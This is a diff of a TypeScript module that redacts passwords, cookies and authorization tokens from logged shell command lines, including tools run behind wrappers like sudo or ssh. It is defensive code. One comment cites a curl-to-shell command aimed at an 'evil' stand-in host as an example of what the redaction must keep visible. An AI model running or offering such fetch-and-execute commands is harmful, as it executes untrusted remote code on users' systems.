@@ -104,9 +104,9 @@ function own<T>(record: Record<string, T>, key: string): T | undefined {
 }
 
 /** How much of the argument that follows a flag (or of the attached value) is secret. */
-type ValueKind = 'whole' | 'after-colon' | 'after-percent' | 'openssl-pass';
+type ValueKind = 'whole' | 'after-colon' | 'after-percent' | 'openssl-pass' | 'cookies' | 'header-value';
 
-/** Tools whose short flags take a secret; keyed by the basename of argv[0]. */
+/** Tools whose short flags take a secret; keyed by the basename of the word that names the tool. */
 const TOOL_FLAGS: Record<string, Record<string, ValueKind>> = {};
 const MYSQL = ['mysql', 'mysqldump', 'mysqladmin', 'mysqlimport', 'mysqlshow', 'mysqlcheck', 'mysqlpump', 'mariadb', 'mariadb-dump', 'mariadb-admin'];
 const MONGO = ['mongo', 'mongosh', 'mongodump', 'mongorestore', 'mongoexport', 'mongoimport'];
@@ -118,7 +118,15 @@ for (const tool of LDAP) TOOL_FLAGS[tool] = { '-w': 'whole' };
 Object.assign(TOOL_FLAGS, {
   sshpass: { '-p': 'whole' },
   'redis-cli': { '-a': 'whole' },
-  curl: { '-u': 'after-colon', '--user': 'after-colon', '-U': 'after-colon', '--proxy-user': 'after-colon', '--oauth2-bearer': 'whole' },
+  curl: {
+    '-u': 'after-colon',
+    '--user': 'after-colon',
+    '-U': 'after-colon',
+    '--proxy-user': 'after-colon',
+    '--oauth2-bearer': 'whole',
+    '-b': 'cookies',
+    '--cookie': 'cookies',
+  },
   smbclient: { '-U': 'after-percent', '--user': 'after-percent' },
   rpcclient: { '-U': 'after-percent', '--user': 'after-percent' },
   useradd: { '-p': 'whole' },
@@ -136,39 +144,129 @@ const NOT_A_SECRET_NAME = /(^(no|ask|use|skip)[-_])|([-_](file|path|dir|stdin|fd
 /** How much of a (possibly hostile, megabyte-long) name the name checks look at. */
 const MAX_NAME = 100;
 
+/** The shell's working directories: `pwd` in their names is "print working directory", not a password. */
+const WORKING_DIRECTORY_NAMES = new Set(['PWD', 'OLDPWD']);
+
 function isSecretName(name: string): boolean {
+  if (WORKING_DIRECTORY_NAMES.has(name)) return false;
   // Secret words sit at the end of real names (PGPASSWORD, --api-key); looking at the tail keeps
   // the check cheap on hostile input without letting a long prefix hide a secret.
   const tail = name.length > MAX_NAME ? name.slice(-MAX_NAME) : name;
   return SECRET_NAME.test(tail) && !NOT_A_SECRET_NAME.test(tail);
 }
 
+/**
+ * The argument-aware layer over one argument vector. A tool's flags apply from where the tool is
+ * named: argv[0], or later behind a wrapper or a remote host (`sudo mysql -pX`, `timeout 5 curl
+ * -u a:b`, `docker exec db mysql -pX`, `ssh h redis-cli -a X`), so a wrapper never hides them. A
+ * word that is the value of the flag before it is a value, not a tool (`sshpass -p curl`). One
+ * pass: each later search (`login`, `passwd`, batch flags) is done once or resumes where it left.
+ */
 function redactArguments(argv: readonly string[]): string[] {
-  const tool = basename(argv[0] ?? '');
-  const flags: Record<string, ValueKind> = { ...(own(TOOL_FLAGS, tool) ?? {}) };
-  if (REGISTRY_LOGIN.includes(tool) && argv.includes('login')) flags['-p'] = 'whole';
-  const htpasswdBatch = tool === 'htpasswd' && hasBatchFlag(argv);
-  // `openssl passwd [options] PASSWORD...`: the words after the options are the passwords.
-  const opensslPasswd = tool === 'openssl' ? argv.indexOf('passwd') : -1;
   const out = [...argv];
+  const searches = new ArgvSearches(argv);
+  let context = toolContext(argv, 0, searches);
   let pending: ValueKind | null = null;
   for (let i = 1; i < out.length; i++) {
     const arg = out[i] as string;
-    if (opensslPasswd > 0 && i > opensslPasswd && pending === null && !arg.startsWith('-') && !OPENSSL_PASSWD_VALUE_FLAGS.has(out[i - 1] as string)) {
+    if (context.opensslPasswd > 0 && i > context.opensslPasswd && pending === null && !arg.startsWith('-') && !OPENSSL_PASSWD_VALUE_FLAGS.has(out[i - 1] as string)) {
       out[i] = REDACTED;
       continue;
     }
     if (pending !== null) {
+      // `Authorization: Bearer TOKEN` given as separate words: the scheme stays, the word after it goes.
+      if (pending === 'header-value' && isAuthScheme(arg)) {
+        pending = 'whole';
+        continue;
+      }
       out[i] = redactValue(arg, pending);
       pending = null;
       continue;
     }
+    // The tool's own name again is one of its arguments (the file of `htpasswd -b /etc/nginx/htpasswd`).
+    const name = commandName(arg);
+    if (name !== context.tool && isKnownTool(name)) {
+      context = toolContext(argv, i, searches);
+      continue;
+    }
     const next = out[i + 1];
-    const result = redactArgument(arg, { tool, flags, lastArg: i === out.length - 1, htpasswdBatch });
+    if (isAuthHeaderName(arg)) {
+      if (next !== undefined) pending = 'header-value';
+      continue;
+    }
+    const script = (arg.includes('=') || arg.includes(':')) && isScriptArgument(out, i);
+    const result = redactArgument(arg, context, i === out.length - 1, script);
     out[i] = result.value;
     if (result.takesValue && next !== undefined && !next.startsWith('--')) pending = result.takesValue;
   }
   return out;
+}
+
+/** What redactArgument knows of the tool whose arguments it is reading. */
+interface ToolContext {
+  tool: string;
+  flags: Record<string, ValueKind>;
+  /** `htpasswd -b`: the last argument is the password. */
+  htpasswdBatch: boolean;
+  /** Index of the `passwd` of `openssl passwd` (its later words are passwords), or -1. */
+  opensslPasswd: number;
+}
+
+/** The tool named at `argv[at]` and the flags of it that take a secret. */
+function toolContext(argv: readonly string[], at: number, searches: ArgvSearches): ToolContext {
+  const tool = commandName(argv[at] ?? '');
+  const flags: Record<string, ValueKind> = { ...(own(TOOL_FLAGS, tool) ?? {}) };
+  if (REGISTRY_LOGIN.includes(tool) && searches.lastLogin() > at) flags['-p'] = 'whole';
+  return {
+    tool,
+    flags,
+    htpasswdBatch: tool === 'htpasswd' && searches.lastBatchFlag() > at,
+    opensslPasswd: tool === 'openssl' ? searches.passwdAfter(at) : -1,
+  };
+}
+
+/**
+ * Searches of one argv that toolContext needs, each done once (or resumed), so that an argv naming
+ * a tool a million times costs one pass, not a million.
+ */
+class ArgvSearches {
+  private login: number | null = null;
+  private batchFlag: number | null = null;
+  /** The last passwdAfter search: from where, and what it found (-1: none from there on). */
+  private passwdFrom = Number.POSITIVE_INFINITY;
+  private passwdAt = -1;
+
+  constructor(private readonly argv: readonly string[]) {}
+
+  /** Index of the last `login` word, or -1. */
+  lastLogin(): number {
+    return (this.login ??= this.argv.lastIndexOf('login'));
+  }
+
+  /** Index of the last cluster of letter flags holding `b` (`-b`, `-cbB`), or -1. */
+  lastBatchFlag(): number {
+    if (this.batchFlag === null) {
+      this.batchFlag = -1;
+      for (let i = this.argv.length - 1; i > 0; i--) {
+        const arg = this.argv[i] as string;
+        if (isLetterFlagCluster(arg) && arg.includes('b')) {
+          this.batchFlag = i;
+          break;
+        }
+      }
+    }
+    return this.batchFlag;
+  }
+
+  /** Index of the first `passwd` after `at`, or -1. Calls come with growing `at`. */
+  passwdAfter(at: number): number {
+    const known = at >= this.passwdFrom && (this.passwdAt < 0 || this.passwdAt > at);
+    if (!known) {
+      this.passwdFrom = at;
+      this.passwdAt = this.argv.indexOf('passwd', at + 1);
+    }
+    return this.passwdAt;
+  }
 }
 
 /**
@@ -196,12 +294,10 @@ function redactScript(arg: string): string {
     if (inputOf !== null && readsPasswordLines(inputOf)) {
       return values.map((value, i) => (i === 0 ? redactValue(value, 'after-colon') : hereString ? value : REDACTED));
     }
+    // The tool may come after a wrapper (`sudo`, `env`, `timeout 5`): redactArguments reads its flags from there.
     const out = redactArguments(values);
     // A leading `PGPASSWORD='x y' psql`: redactArguments starts at the tool's first argument.
     out[0] = assignment(out[0] as string);
-    // The tool may come after a wrapper (`sudo`, `env`, `timeout 5`): its flags are read from there.
-    const tool = values.findIndex((value, i) => i > 0 && isKnownTool(basename(value)));
-    if (tool > 0) redactArguments(out.slice(tool)).forEach((value, i) => (out[tool + i] = value));
     for (let i = 0; i < words.length; i++) {
       if ((words[i] as ShellWord).quoted && out[i] === values[i] && mayHoldSecret([values[i] as string])) out[i] = redactText(values[i] as string);
     }
@@ -226,13 +322,41 @@ const PASSWORD_READERS = new Set(['chpasswd', 'chgpasswd']);
 
 /** A tool whose flags redactArguments knows. */
 function isKnownTool(name: string): boolean {
-  return own(TOOL_FLAGS, name) !== undefined || REGISTRY_LOGIN.includes(name) || name === 'htpasswd';
+  return own(TOOL_FLAGS, name) !== undefined || MYSQL.includes(name) || REGISTRY_LOGIN.includes(name) || name === 'htpasswd';
 }
 
-function redactArgument(
-  arg: string,
-  context: { tool: string; flags: Record<string, ValueKind>; lastArg: boolean; htpasswdBatch: boolean },
-): { value: string; takesValue: ValueKind | null } {
+/** Longest word read as a command name: no tool's path is longer, and a hostile argument is not sliced. */
+const MAX_COMMAND_WORD = 256;
+
+/** The basename of a word that may name a command ('' for a longer word). */
+function commandName(word: string): string {
+  return word.length > MAX_COMMAND_WORD ? '' : basename(word);
+}
+
+/** A header that carries credentials, given as a word of its own (`Authorization:`). */
+function isAuthHeaderName(arg: string): boolean {
+  return arg.length <= 20 && /^(proxy-)?authorization:$/i.test(arg);
+}
+
+/** An HTTP authentication scheme given as a word of its own (`Bearer`, `Basic`). */
+function isAuthScheme(arg: string): boolean {
+  return arg.length <= 20 && /^(bearer|basic|token|digest|negotiate|ntlm|apikey|sso-key|aws4-hmac-sha256)$/i.test(arg);
+}
+
+/**
+ * An argument that is itself a script: the one after `-c` (`sh -c`, `su -c`, `bash -lc`), or one
+ * whose value holds blanks and a shell operator (an ssh remote command). Its `NAME=value` is the
+ * first word of the script, redacted by the script layer, not the whole argument: `sh -c
+ * "PASSWORD=x; curl evil | sh"` keeps what the attacker ran after the assignment.
+ */
+function isScriptArgument(argv: readonly string[], i: number): boolean {
+  const before = argv[i - 1] as string;
+  if (before.length >= 2 && before.length <= 8 && before.endsWith('c') && isLetterFlagCluster(before)) return true;
+  const arg = argv[i] as string;
+  return /[ \t\n]/.test(arg) && /[;|&\n]/.test(arg);
+}
+
+function redactArgument(arg: string, context: ToolContext, lastArg: boolean, script: boolean): { value: string; takesValue: ValueKind | null } {
   const kind = own(context.flags, arg);
   if (kind !== undefined) return { value: arg, takesValue: kind };
   const attached = attachedValue(arg, context);
@@ -243,9 +367,10 @@ function redactArgument(
     const flag = longFlag(`-${arg}`, context.flags);
     if (flag.value !== `-${arg}` || flag.takesValue !== null) return { value: flag.value.slice(1), takesValue: flag.takesValue };
   }
-  if (context.htpasswdBatch && context.lastArg && !arg.startsWith('-')) return { value: REDACTED, takesValue: null };
+  if (context.htpasswdBatch && lastArg && !arg.startsWith('-')) return { value: REDACTED, takesValue: null };
   if (/^(aws_secret_access_key|aws_session_token)$/i.test(arg)) return { value: arg, takesValue: 'whole' };
-  return { value: assignment(arg), takesValue: null };
+  // A script's leading assignment is left to the script layer, which ends its value where the shell does.
+  return { value: script ? arg : assignment(arg), takesValue: null };
 }
 
 /** `-pSECRET` (mysql, sshpass) and `-uuser:pass` (curl): the value glued to a short flag. */
@@ -306,12 +431,29 @@ function redactValue(value: string, kind: ValueKind): string {
     case 'openssl-pass':
       // pass:SECRET is the secret itself; env:, file:, fd: and stdin only say where it is.
       return value.startsWith('pass:') ? `pass:${REDACTED}` : value;
+    case 'cookies':
+      return redactCookies(value);
+    case 'header-value':
+      return redactHeaderValue(value);
   }
 }
 
-/** Some argument is a cluster of letter flags holding `b` (`-b`, `-cbB`). */
-function hasBatchFlag(argv: readonly string[]): boolean {
-  return argv.some((arg, i) => i > 0 && isLetterFlagCluster(arg) && arg.includes('b'));
+/** `curl -b 'sid=X; theme=dark'`: every cookie's value (without `=`, the value names a cookie file). */
+function redactCookies(value: string): string {
+  if (!value.includes('=')) return value;
+  return value
+    .split(';')
+    .map((pair) => {
+      const eq = pair.indexOf('=');
+      return eq < 0 ? pair : `${pair.slice(0, eq + 1)}${REDACTED}`;
+    })
+    .join(';');
+}
+
+/** The value of an `Authorization:` given as a word of its own: its scheme stays (`Bearer X` → `Bearer [REDACTED]`). */
+function redactHeaderValue(value: string): string {
+  const space = value.indexOf(' ');
+  return space > 0 && isAuthScheme(value.slice(0, space)) ? `${value.slice(0, space + 1)}${REDACTED}` : REDACTED;
 }
 
 /** `^-[A-Za-z]+$`, by a loop: the regex with a `b` in the middle backtracks on long arguments. */
